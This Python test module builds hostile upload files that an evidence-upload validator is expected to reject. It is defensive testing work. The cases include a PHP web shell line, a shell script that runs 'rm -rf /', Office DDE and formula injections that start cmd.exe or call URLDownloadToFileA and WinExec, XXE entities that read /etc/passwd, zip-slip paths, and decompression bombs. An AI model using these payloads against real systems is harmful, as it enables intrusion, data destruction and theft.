"""Hostile files, made by code: each must be refused with a reason. Nothing here harms anybody."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from PIL import Image

from tests.apps.evidence import good_files as good

MIB = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    """One file; ``kind`` groups those that are refused for the same idea."""

    kind: str
    label: str
    name: str
    content: bytes
    slot: str

    @property
    def id(self) -> str:
        return f"{self.kind}: {self.label}"


GOOD: dict[str, Callable[[], bytes]] = {
    "pdf": good.pdf,
    "jpg": good.jpg,
    "png": good.png,
    "xlsx": good.xlsx,
    "docx": good.docx,
    "csv": good.csv,
    "zip": good.package,
}
SLOT = {
    "pdf": "other",
    "jpg": "photo",
    "png": "photo",
    "xlsx": "list",
    "docx": "contract",
    "csv": "list",
    "zip": "package",
}


def everything() -> Iterator[Hostile]:
    """All hostile files, in a fixed order."""
    for part in (names, extensions, slots, magics, sizes, truncated, images, pdfs, offices):
        yield from part()
    for part in (archives, packages, tables):
        yield from part()


# -- names ------------------------------------------------------------------------------------


def names() -> Iterator[Hostile]:
    for kind, make in GOOD.items():
        for label, name in (
            ("null byte", f"a\x00.{kind}"),
            ("null byte before a second extension", f"a.php\x00.{kind}"),
            ("right-to-left override", f"a\u202eexe.{kind}"),
            ("zero-width space", f"a\u200b.{kind}"),
            ("line break", f"a\r\nX-Header: 1.{kind}"),
            ("path upwards", f"../../etc/a.{kind}"),
            ("path of Windows", f"..\\..\\a.{kind}"),
            ("drive", f"C:\\a.{kind}"),
            ("alternate stream", f"a.{kind}:b.{kind}"),
            ("wildcard", f"a*.{kind}"),
            ("markup", f"<script>.{kind}"),
            ("program before the extension", f"发票.exe.{kind}"),
            ("script before the extension", f"a.php.{kind}"),
            ("page before the extension", f"a.html.{kind}"),
            ("device", f"CON.{kind}"),
            ("device with a number", f"lpt1.{kind}"),
            ("device with two dots", f"nul.2026.{kind}"),
            ("hidden", f".a.{kind}"),
            ("trailing dot", f"a.{kind}."),
            ("trailing blank", f"a.{kind} "),
            ("only the extension", f".{kind}"),
            ("much too long", "长" * 250 + f".{kind}"),
            ("no extension", kind),
        ):
            yield Hostile("name", f"{kind}, {label}", name, make(), SLOT[kind])
    yield Hostile("name", "empty", "", good.pdf(), "other")
    yield Hostile("name", "blank", "  ", good.pdf(), "other")


def extensions() -> Iterator[Hostile]:
    for extension in [
        "exe",
        "com",
        "bat",
        "cmd",
        "scr",
        "pif",
        "msi",
        "dll",
        "lnk",
        "url",
        "hta",
        "js",
        "jse",
        "vbs",
        "vbe",
        "wsf",
        "ps1",
        "sh",
        "py",
        "php",
        "phtml",
        "jsp",
        "asp",
        "aspx",
        "jar",
        "html",
        "htm",
        "xhtml",
        "svg",
        "svgz",
        "xml",
        "mht",
        "swf",
        "xls",
        "doc",
        "xlsm",
        "xlsb",
        "docm",
        "dotm",
        "pptm",
        "xltm",
        "rtf",
        "iso",
        "img",
        "rar",
        "7z",
        "gz",
        "tar",
        "tgz",
        "bz2",
        "gif",
        "bmp",
        "webp",
        "tiff",
        "heic",
        "ods",
        "odt",
        "eml",
        "apk",
        "reg",
        "chm",
    ]:
        yield Hostile("extension", extension, f"a.{extension}", good.pdf(), "other")


def slots() -> Iterator[Hostile]:
    for slot, kind in (
        ("photo", "pdf"),
        ("photo", "xlsx"),
        ("licence", "docx"),
        ("licence", "csv"),
        ("invoice", "zip"),
        ("payment", "xlsx"),
        ("list", "pdf"),
        ("list", "jpg"),
        ("package", "pdf"),
        ("contract", "zip"),
        ("report", "csv"),
        ("other", "zip"),
    ):
        yield Hostile("slot", f"{kind} for {slot}", f"a.{kind}", GOOD[kind](), slot)


# -- content that is something else ---------------------------------------------------------------

FOREIGN = {
    "program": b"MZ\x90\x00\x03" + bytes(200),
    "elf": b"\x7fELF\x02\x01\x01" + bytes(200),
    "page": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>",
    "xml": b"<?xml version='1.0'?><a/>",
    "php": b"<?php system($_GET['c']); ?>",
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "gif": b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + bytes(30),
    "bmp": b"BM" + bytes(60),
    "rar": b"Rar!\x1a\x07\x00" + bytes(60),
    "seven zip": b"7z\xbc\xaf\x27\x1c" + bytes(60),
    "gzip": b"\x1f\x8b\x08\x00" + bytes(60),
    "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "rich text": b"{\\rtf1\\ansi{\\*\\generator x}}",
    "postscript": b"%!PS-Adobe-3.0\n/x",
    "zeros": bytes(4096),
}


def magics() -> Iterator[Hostile]:
    for kind in GOOD:
        for other, content in FOREIGN.items():
            yield Hostile("magic", f"{other} as {kind}", f"a.{kind}", content, SLOT[kind])
        for other, make in GOOD.items():
            if other != kind and not (kind == "zip" and other in ("xlsx", "docx")):
                yield Hostile("magic", f"{other} as {kind}", f"a.{kind}", make(), SLOT[kind])
    for other in ("xlsx", "docx"):
        yield Hostile("magic", f"{other} as zip", "a.zip", GOOD[other](), "package")


def sizes() -> Iterator[Hostile]:
    for kind in GOOD:
        yield Hostile("size", f"{kind} of no bytes", f"a.{kind}", b"", SLOT[kind])
    yield Hostile("size", "pdf too large", "a.pdf", good.pdf() + bytes(31 * MIB), "other")
    yield Hostile("size", "jpg too large", "a.jpg", good.jpg() + bytes(21 * MIB), "photo")
    yield Hostile("size", "csv too large", "a.csv", b"a,b\r\n" * (3 * MIB), "list")


def truncated() -> Iterator[Hostile]:
    for kind, make in GOOD.items():
        if kind == "csv":
            continue
        whole = make()
        for percent in (10, 25, 50, 75, 95):
            content = whole[: len(whole) * percent // 100]
            label = f"{kind} at {percent} %"
            yield Hostile("truncated", label, f"a.{kind}", content, SLOT[kind])


# -- images -----------------------------------------------------------------------------------------


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def _huge_png(wide: int, high: int) -> bytes:
    head = struct.pack(">IIBBBBB", wide, high, 1, 0, 0, 0, 0)
    row = zlib.compress(bytes(1 + wide // 8) * min(high, 64))
    parts = _chunk(b"IHDR", head) + _chunk(b"IDAT", row) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + parts


def _huge_jpg(wide: int, high: int) -> bytes:
    content = bytearray(good.jpg())
    at = content.index(b"\xff\xc0") + 5
    content[at : at + 4] = struct.pack(">HH", high, wide)
    return bytes(content)


def _animated() -> bytes:
    frames = [Image.new("RGB", (8, 8), shade) for shade in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def _little_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "hidden")
    return out.getvalue()


def images() -> Iterator[Hostile]:
    scripts = {
        "page": b"<html><body onload=alert(1)>",
        "script": b"<script>alert(1)</script>",
        "php": b"<?php phpinfo(); ?>",
        "doctype": b"<!DOCTYPE html>",
        "pdf": b"%PDF-1.7\n1 0 obj",
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg'>",
        "zip": _little_zip(),
    }
    comment = b"\xff\xd8\xff\xfe"
    for label, body in scripts.items():
        jpg, png = good.jpg(), good.png()
        if label != "zip":
            inside = comment + struct.pack(">H", len(body) + 2) + body + jpg[2:]
            yield Hostile("polyglot", f"jpg with {label} in a comment", "a.jpg", inside, "photo")
            text = png[:33] + _chunk(b"tEXt", b"Comment\0" + body) + png[33:]
            yield Hostile("polyglot", f"png with {label} in a text", "a.png", text, "photo")
        yield Hostile("polyglot", f"jpg followed by {label}", "a.jpg", jpg + body, "photo")
        yield Hostile("polyglot", f"png followed by {label}", "a.png", png + body, "photo")
    for wide, high in ((50_000, 50_000), (21_000, 10), (10, 30_000), (9_000, 9_000)):
        label = f"{wide}×{high}"
        yield Hostile("image", f"png of {label}", "a.png", _huge_png(wide, high), "photo")
    for wide, high in ((65_500, 65_500), (30_000, 8), (9_000, 9_000)):
        yield Hostile("image", f"jpg of {wide}×{high}", "a.jpg", _huge_jpg(wide, high), "photo")
    yield Hostile("image", "animated png", "a.png", _animated(), "photo")
    png = good.png()
    broken = png[:60] + bytes([png[60] ^ 255]) + png[61:]
    yield Hostile("image", "png with a wrong check sum", "a.png", broken, "photo")
    yield Hostile("image", "png head alone", "a.png", png[:8], "photo")
    yield Hostile("image", "jpg head alone", "a.jpg", b"\xff\xd8\xff", "photo")
    empty = struct.pack(">IIBBBBB", 0, 0, 8, 2, 0, 0, 0)
    none = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", empty) + _chunk(b"IEND", b"")
    yield Hostile("image", "png of no size", "a.png", none, "photo")


# -- PDF ------------------------------------------------------------------------------------------------

_JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
_OBJECTS = b"5 0 6 50 << /S /JavaScript /JS (app.alert(1)) >> << /Type /Action >>"


def _stream(data: bytes, head: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), head, data)


def _hidden(encoded: bytes, filters: bytes) -> bytes:
    """Objects in a stream, encoded somehow."""
    head = b"/Type /ObjStm /N 2 /First 9 /Filter " + filters
    return good.pdf_with(_stream(encoded, head))


def _run_length(data: bytes) -> bytes:
    parts = [data[at : at + 100] for at in range(0, len(data), 100)]
    return b"".join(bytes([len(part) - 1]) + part for part in parts) + b"\x80"


def pdfs() -> Iterator[Hostile]:
    flate = zlib.compress(_OBJECTS)
    a85 = base64.a85encode(flate) + b"~>"
    attached = _stream(b"MZ", b"/Type /EmbeddedFile")
    cases = {
        "script on opening": good.pdf_with(catalogue=b"/OpenAction " + _JS),
        "script as an object": good.pdf_with(_JS, catalogue=b"/OpenAction 4 0 R"),
        "script in the name tree": good.pdf_with(catalogue=b"/Names << /JavaScript 4 0 R >>"),
        "script, one letter escaped": good.pdf_with(b"<< /S /J#61vaScript /JS (x) >>"),
        "script, all letters escaped": good.pdf_with(
            b"<< /S /" + b"".join(b"#%02X" % sign for sign in b"JavaScript") + b" /JS (x) >>"
        ),
        "script, escaped in lower case": good.pdf_with(b"<< /S /#4a#61vaScript >>"),
        "script in a form field": good.pdf_with(b"<< /AA << /K " + _JS + b" >> >>"),
        "script packed": _hidden(flate, b"/FlateDecode"),
        "script packed, short name": _hidden(flate, b"/Fl"),
        "script packed, in a list": _hidden(flate, b"[/FlateDecode]"),
        "script packed, filter escaped": _hidden(flate, b"/Fl#61teDecode"),
        "script packed twice": _hidden(zlib.compress(flate), b"[/FlateDecode /FlateDecode]"),
        "script in hex": _hidden(_OBJECTS.hex().encode() + b">", b"/ASCIIHexDecode"),
        "script in hex and packed": _hidden(
            flate.hex().encode() + b">", b"[/ASCIIHexDecode /FlateDecode]"
        ),
        "script in base 85": _hidden(base64.a85encode(_OBJECTS) + b"~>", b"/ASCII85Decode"),
        "script in base 85 and packed": _hidden(a85, b"[ /ASCII85Decode /FlateDecode ]"),
        "script in run lengths": _hidden(_run_length(_OBJECTS), b"/RunLengthDecode"),
        "script in LZW": _hidden(b"\x80\x0b\x60", b"/LZWDecode"),
        "filter that is elsewhere": _hidden(flate, b"9 0 R"),
        "unknown filter": _hidden(flate, b"/Crypt"),
        "objects behind a predictor": _hidden(
            flate, b"/FlateDecode /DecodeParms << /Predictor 12 >>"
        ),
        "objects as a picture": _hidden(flate, b"/DCTDecode"),
        "comment inside the filter": _hidden(flate, b"%x\n /FlateDecode"),
        "stream inside a stream": good.pdf_with(
            _stream(b"5 0 obj\n" + _stream(flate, b"/First 9 /Filter /FlateDecode"))
        ),
        "very long dictionary": good.pdf_with(
            _stream(flate, b"/Pad (" + b"x" * 40_000 + b") /Filter /FlateDecode")
        ),
        "packed data broken": _hidden(flate[:-8] + b"xxxxxxxx", b"/FlateDecode"),
        "stream bomb": good.pdf_with(_stream(zlib.compress(bytes(120 * MIB)), b"/Filter /Fl")),
        "external stream": good.pdf_with(_stream(b"", b"/F (http://example.org/x)")),
        "launch": good.pdf_with(b"<< /S /Launch /F (cmd.exe) >>"),
        "launch for Windows": good.pdf_with(b"<< /S /Launch /Win << /F (cmd.exe) >> >>"),
        "launch escaped": good.pdf_with(b"<< /S /L#61unch /F (cmd.exe) >>"),
        "attachment": good.pdf_with(attached, catalogue=b"/Names << /EmbeddedFiles 4 0 R >>"),
        "attachment by note": good.pdf_with(b"<< /Subtype /FileAttachment /FS 5 0 R >>"),
        "attachment opened": good.pdf_with(b"<< /S /GoToE /T << /R /C >> >>"),
        "rich media": good.pdf_with(b"<< /Subtype /RichMedia >>"),
        "rendition": good.pdf_with(b"<< /S /Rendition /JS (x) >>"),
        "form data sent away": good.pdf_with(b"<< /S /SubmitForm /F (http://example.org) >>"),
        "form data taken in": good.pdf_with(b"<< /S /ImportData /F (x) >>"),
        "XFA form": good.pdf_with(catalogue=b"/AcroForm << /XFA 4 0 R >>"),
        "XFA list": good.pdf_with(catalogue=b"/AcroForm << /XFA [ (a) 4 0 R ] >>"),
        "locked": good.pdf_with(b"<< /Filter /Standard /V 1 >>", trailer=b"/Encrypt 4 0 R"),
        "locked inline": good.pdf_with(trailer=b"/Encrypt << /Filter /Standard >>"),
        "junk before": b"junk\n" + good.plain_pdf(),
        "page before": b"<html></html>\n" + good.plain_pdf(),
        "junk after": good.plain_pdf() + b"x" * 3000,
        "program after": good.plain_pdf() + FOREIGN["program"],
        "zip after": good.plain_pdf() + _little_zip(),
        "table of offsets beyond the end": good.plain_pdf().replace(
            b"startxref\n", b"startxref\n9"
        ),
        "no table of offsets": good.plain_pdf().replace(b"startxref", b"startnone"),
        "no end": good.plain_pdf().replace(b"%%EOF", b""),
        "no root": good.plain_pdf().replace(b"/Root", b"/Loot"),
        "head alone": b"%PDF-1.7\n",
        "wrong version": good.plain_pdf().replace(b"%PDF-1.7", b"%PDF-9.9"),
        "stream without end": good.pdf_with(_stream(b"x")).replace(b"endstream", b"endstrom"),
    }
    for label, content in cases.items():
        yield Hostile("pdf", label, "a.pdf", content, "other")


# -- Excel and Word ------------------------------------------------------------------------------------------


def changed(whole: bytes, parts: dict[str, bytes | None], **replaced: tuple[str, str]) -> bytes:
    """A copy of an archive with parts added or (None) left out, and texts replaced in parts."""
    out = io.BytesIO()
    swaps = list(replaced.values())
    with (
        zipfile.ZipFile(io.BytesIO(whole)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            content = source.read(name)
            if name in parts:
                continue
            for old, new in swaps:
                content = content.replace(old.encode(), new.encode())
            target.writestr(name, content)
        for name, body in parts.items():
            if body is not None:
                target.writestr(name, body)
    return out.getvalue()


def part_of(whole: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(whole)) as source:
        return source.read(name).decode()


_RELATION = (
    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}"{mode}/></Relationships>'
)
_OUT = ' TargetMode="External"'
_XXE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)


def _related(kind: str, relation: str, target: str, mode: str = _OUT) -> bytes:
    rels = "xl/_rels/workbook.xml.rels" if kind == "xlsx" else "word/_rels/document.xml.rels"
    text = part_of(GOOD[kind](), rels)
    more = _RELATION.format(kind=relation, target=target, mode=mode)
    return changed(GOOD[kind](), {rels: text.replace("</Relationships>", more).encode()})


def _with_doctype(kind: str, part: str, doctype: str) -> bytes:
    text = part_of(GOOD[kind](), part)
    at = text.index("?>") + 2 if text.startswith("<?xml") else 0
    return changed(GOOD[kind](), {part: (text[:at] + doctype + text[at:]).encode()})


def _formula(text: str) -> bytes:
    sheet = part_of(good.xlsx(), "xl/worksheets/sheet1.xml")
    cell = f'<row r="900"><c r="A900"><f>{text}</f><v>0</v></c></row></sheetData>'
    return changed(
        good.xlsx(), {"xl/worksheets/sheet1.xml": sheet.replace("</sheetData>", cell).encode()}
    )


def _field(runs: list[str]) -> bytes:
    document = part_of(good.docx(), "word/document.xml")
    inner = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    more = f"<w:p>{inner}</w:p><w:sectPr"
    return changed(
        good.docx(), {"word/document.xml": document.replace("<w:sectPr", more, 1).encode()}
    )


def offices() -> Iterator[Hostile]:
    for kind in ("xlsx", "docx"):
        for label, content in _office_cases(kind).items():
            yield Hostile("office", f"{kind}, {label}", f"a.{kind}", content, SLOT[kind])
    for label, text in (
        ("starts a program", "cmd|'/c calc'!A0"),
        ("starts a program, in capitals", "MSEXCEL|'..\\calc'!A0"),
        ("starts a program, in a sum", "SUM(1,cmd|' /c calc'!A0)"),
        ("fetches an address", 'WEBSERVICE("http://example.org/"&amp;A1)'),
        ("calls a library", 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'),
        ("registers a function", 'REGISTER("kernel32","WinExec","JCJ","X")'),
        ("runs a macro function", 'EXEC("calc.exe")'),
        ("real-time data", 'RTD("x",,"y")'),
        ("links to a file", 'HYPERLINK("file:///c:/x.exe","点我")'),
        ("links to a share", 'HYPERLINK("\\\\host\\x.exe","点我")'),
    ):
        yield Hostile("office", f"formula that {label}", "a.xlsx", _formula(text), "list")
    for label, runs in (
        ("DDE", [' DDE "cmd" "/c calc" ']),
        ("DDEAUTO", [' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" ']),
        ("DDE in pieces", [" D", "D", 'E "cmd" "/c calc" ']),
        ("DDEAUTO in pieces", ["DDE", "AUTO ", '"cmd"']),
        ("INCLUDEPICTURE", [' INCLUDEPICTURE "http://example.org/x.png" ']),
        ("INCLUDETEXT", [' INCLUDETEXT "\\\\host\\x.docx" ']),
        ("MACROBUTTON", [" MACROBUTTON AutoOpen 点我 "]),
    ):
        yield Hostile("office", f"field {label}", "a.docx", _field(runs), "contract")


def _office_cases(kind: str) -> dict[str, bytes]:
    whole = GOOD[kind]()
    folder = "xl" if kind == "xlsx" else "word"
    main = "xl/workbook.xml" if kind == "xlsx" else "word/document.xml"
    other = "docx" if kind == "xlsx" else "xlsx"
    types = part_of(whole, "[Content_Types].xml")
    sheet, word = "spreadsheetml.sheet.main", "wordprocessingml.document.main"
    plain = f"application/vnd.openxmlformats-officedocument.{sheet if kind == 'xlsx' else word}+xml"
    macro = (
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        if kind == "xlsx"
        else "application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    template = plain.replace("sheet.main", "template.main").replace(
        "document.main", "template.main"
    )
    typed = "[Content_Types].xml"
    part = {f"{folder}/{name}": b"x" for name in ("vbaProject.bin", "vbaData.xml", "evil.bin")}
    cases = {name: changed(whole, {name: body}) for name, body in part.items()}
    for name in (
        "activeX/activeX1.xml",
        "activeX/activeX1.bin",
        "embeddings/oleObject1.bin",
        "embeddings/book.xlsx",
        "macrosheets/sheet1.xml",
        "externalLinks/externalLink1.xml",
        "connections.xml",
        "queryTables/queryTable1.xml",
        "attachedToolbars.bin",
        "afchunk.mht",
        "media/run.exe",
        "media/page.html",
        "media/script.js",
        "media/pack.zip",
        "media/image.svg",
    ):
        cases[name] = changed(whole, {f"{folder}/{name}": b"<a/>"})
    cases["customUI"] = changed(whole, {"customUI/customUI.xml": b"<a/>"})
    cases["program as a picture"] = changed(whole, {f"{folder}/media/x.png": FOREIGN["program"]})
    cases["zip as a picture"] = changed(whole, {f"{folder}/media/x.png": _little_zip()})
    cases["macro type"] = changed(whole, {typed: types.replace(plain, macro).encode()})
    cases["template type"] = changed(whole, {typed: types.replace(plain, template).encode()})
    cases["type of the other kind"] = changed(
        whole, {typed: part_of(GOOD[other](), typed).encode()}
    )
    cases["no types"] = changed(whole, {typed: None})
    cases["no main part"] = changed(whole, {main: None})
    cases["main part broken"] = changed(whole, {main: b"<a><b></a>"})
    cases["main part of zeros"] = changed(whole, {main: bytes(500)})
    cases["deep nesting"] = changed(whole, {main: b"<a>" * 5000 + b"</a>" * 5000})
    cases["bomb in a part"] = changed(
        whole, {f"{folder}/big.xml": b"<a>" + b" " * (90 * MIB) + b"</a>"}
    )
    cases["path upwards"] = changed(whole, {"../../evil.xml": b"<a/>"})
    parts = [typed, "_rels/.rels", main, f"{folder}/styles.xml", "docProps/core.xml"]
    for name in parts:
        cases[f"external entity in {name}"] = _with_doctype(kind, name, _XXE)
        cases[f"entity bomb in {name}"] = _with_doctype(kind, name, _LAUGHS)
    text = part_of(whole, main)
    wide = (text[: text.index("?>") + 2].replace("UTF-8", "UTF-16") + _XXE + "<a/>").encode(
        "utf-16"
    )
    cases["external entity in UTF-16"] = changed(whole, {main: wide})
    for relation, target in (
        ("attachedTemplate", "http://example.org/evil.dotm"),
        ("externalLinkPath", "file:///c:/secret.xlsx"),
        ("oleObject", "http://example.org/x"),
        ("image", "http://example.org/track.png"),
        ("frame", "http://example.org/"),
        ("subDocument", "http://example.org/x.docx"),
        ("aFChunk", "http://example.org/x.mht"),
        ("hyperlink", "file:///c:/windows/system32/calc.exe"),
        ("hyperlink", "\\\\host\\share\\x.exe"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "ms-msdt:/id"),
    ):
        cases[f"{relation} to {target}"] = _related(kind, relation, target)
    for relation in ("vbaProject", "oleObject", "package", "aFChunk", "control"):
        cases[f"{relation} inside"] = _related(kind, relation, "styles.xml", "")
    return cases


# -- archives -------------------------------------------------------------------------------------------------


def _zip(entries: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in entries:
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=method)
    return out.getvalue()


def _special(mode: int, name: str = "a.csv") -> bytes:
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, mode << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def _flagged(whole: bytes, flag: int) -> bytes:
    """Set a general-purpose flag in every header."""
    content = bytearray(whole)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        here = content.find(mark)
        while here >= 0:
            content[here + at] |= flag
            here = content.find(mark, here + 4)
    return bytes(content)


def _overlapping() -> bytes:
    """Two entries that share one body, the trick of the flattest bombs."""
    one = _zip([("a.csv", b"a,b\r\n" * 50)])
    end = one.rindex(b"PK\x05\x06")
    central = one[one.index(b"PK\x01\x02") : end]
    start = one.index(b"PK\x01\x02")
    twice = central + central.replace(b"a.csv", b"b.csv")
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, len(twice), start, 0)
    return one[:start] + twice + tail


def archives() -> Iterator[Hostile]:
    table = b"a,b\r\n1,2\r\n"
    bomb = bytes(50 * MIB)
    whole = good.package()
    broken = bytearray(_zip([("a.csv", table)], zipfile.ZIP_STORED))
    broken[broken.index(b"1,2")] ^= 1
    cases = {
        "path upwards": _zip([("../a.csv", table)]),
        "path upwards, deeper": _zip([("x/../../a.csv", table)]),
        "path upwards of Windows": _zip([("..\\a.csv", table)]),
        "absolute path": _zip([("/etc/a.csv", table)]),
        "drive": _zip([("C:/a.csv", table)]),
        "share": _zip([("//host/a.csv", table)]),
        "symbolic link": _special(0o120777),
        "link to a folder": _special(0o120777, "x"),
        "device": _special(0o020666),
        "block device": _special(0o060666),
        "pipe": _special(0o010666),
        "socket": _special(0o140666),
        "bomb by ratio": _zip([("a.csv", bomb)]),
        "bomb in many": _zip([(f"{n}.csv", bytes(9 * MIB)) for n in range(30)]),
        "too many entries": _zip([(f"{n}.csv", b"") for n in range(400)]),
        "same name twice, other case": _zip([("a.csv", table), ("A.csv", table)]),
        "same name twice, other form": _zip([("\u00e9.csv", table), ("e\u0301.csv", table)]),
        "locked": _flagged(_zip([("a.csv", table)]), 1),
        "strong lock": _flagged(_zip([("a.csv", table)]), 0x41),
        "overlapping": _overlapping(),
        "wrong check sum": bytes(broken),
        "bzip2": _zip([("a.csv", table)], zipfile.ZIP_BZIP2),
        "lzma": _zip([("a.csv", table)], zipfile.ZIP_LZMA),
        "program before": FOREIGN["program"] + whole,
        "zip before": _zip([("a.csv", table)]) + whole,
        "page after": whole + FOREIGN["page"],
        "junk after": whole + bytes(50),
        "nothing inside": _zip([]),
        "only folders": _zip([("x/", b"")]),
        "folders without end": _zip([("x/" * 40 + "a.csv", table)]),
        "control character in a name": _zip([("a\x07.csv", table)]),
        "override in a name": _zip([("a\u202e.csv", table)]),
        "declared size too small": whole[:18] + b"\x01\0\0\0\x01\0\0\0" + whole[26:-60],
        "directory cut": whole[:-30],
    }
    for label, content in cases.items():
        yield Hostile("zip", label, "a.zip", content, "package")


def packages() -> Iterator[Hostile]:
    """Archives that are sound, with something inside that would be refused alone."""
    script = good.pdf_with(catalogue=b"/OpenAction " + _JS)
    inner = {
        "archive": ("b.zip", good.package()),
        "archive under another name": ("b.xlsx", good.package()),
        "rar": ("b.rar", FOREIGN["rar"]),
        "gzip": ("b.gz", FOREIGN["gzip"]),
        "program": ("b.exe", FOREIGN["program"]),
        "program under another name": ("b.pdf", FOREIGN["program"]),
        "two extensions": ("b.exe.pdf", good.pdf()),
        "page": ("b.html", FOREIGN["page"]),
        "page under another name": ("b.csv", FOREIGN["page"]),
        "drawing": ("b.svg", FOREIGN["svg"]),
        "drawing under another name": ("b.png", FOREIGN["svg"]),
        "script": ("b.js", b"alert(1)"),
        "script in a pdf": ("b.pdf", script),
        "macro": ("b.xlsx", changed(good.xlsx(), {"xl/vbaProject.bin": b"x"})),
        "entity": ("b.docx", _with_doctype("docx", "word/document.xml", _XXE)),
        "huge picture": ("b.png", _huge_png(50_000, 50_000)),
        "formula": ("b.csv", b"=cmd|'/c calc'!A0\r\n"),
        "device": ("nul.pdf", good.pdf()),
        "hidden": (".b.pdf", good.pdf()),
        "no extension": ("b", good.pdf()),
        "empty": ("b.pdf", b""),
        "stream bomb": ("b.pdf", next(h.content for h in pdfs() if h.label == "stream bomb")),
    }
    for label, (name, content) in inner.items():
        yield Hostile("package", label, "a.zip", _zip([("材料/" + name, content)]), "package")


# -- CSV --------------------------------------------------------------------------------------------------------


def tables() -> Iterator[Hostile]:
    cases = {
        "formula": "=1+1,2",
        "formula in a later row": "a,b\r\n1,=SUM(A1)\r\n",
        "formula behind blanks": "a,  =1+1",
        "formula in quotes": '"=1+1",2',
        "formula in full width": "＝1+1,2",
        "formula behind a tab": "a,\t=1+1",
        "starts a program": "=cmd|'/c calc'!A0",
        "starts a program with a plus": "+cmd|'/c calc'!A0",
        "starts a program with a minus": "-2+3+cmd|'/c calc'!A0",
        "at-function": "@SUM(1+9)*cmd|'/c calc'!A0",
        "link": '=HYPERLINK("http://example.org/"&A1,"点我")',
        "fetch": '=WEBSERVICE("http://example.org/")',
        "quote without end": 'a,"b\r\nc,d',
        "text after a quote": '"a"b,c',
        "too many columns": ",".join(["a"] * 400),
        "much too long a cell": "a," + "b" * 40_000,
        "script in a cell": "a,<script>alert(1)</script>",
        "frame in a cell": "a,<iframe src=x>",
        "bell": "a,\x07",
        "escape": "a,\x1b[2J",
        "form feed": "a,\x0c",
        "too many rows": "1\n" * 200_001,
    }
    for label, text in cases.items():
        yield Hostile("csv", label, "a.csv", text.encode(), "list")
    yield Hostile("csv", "UTF-16", "a.csv", "a,b".encode("utf-16"), "list")
    yield Hostile("csv", "no known encoding", "a.csv", b"a,\xff\xfe\xfa\x81\xff", "list")
    yield Hostile("csv", "null byte", "a.csv", b"a,b\x00c", "list")
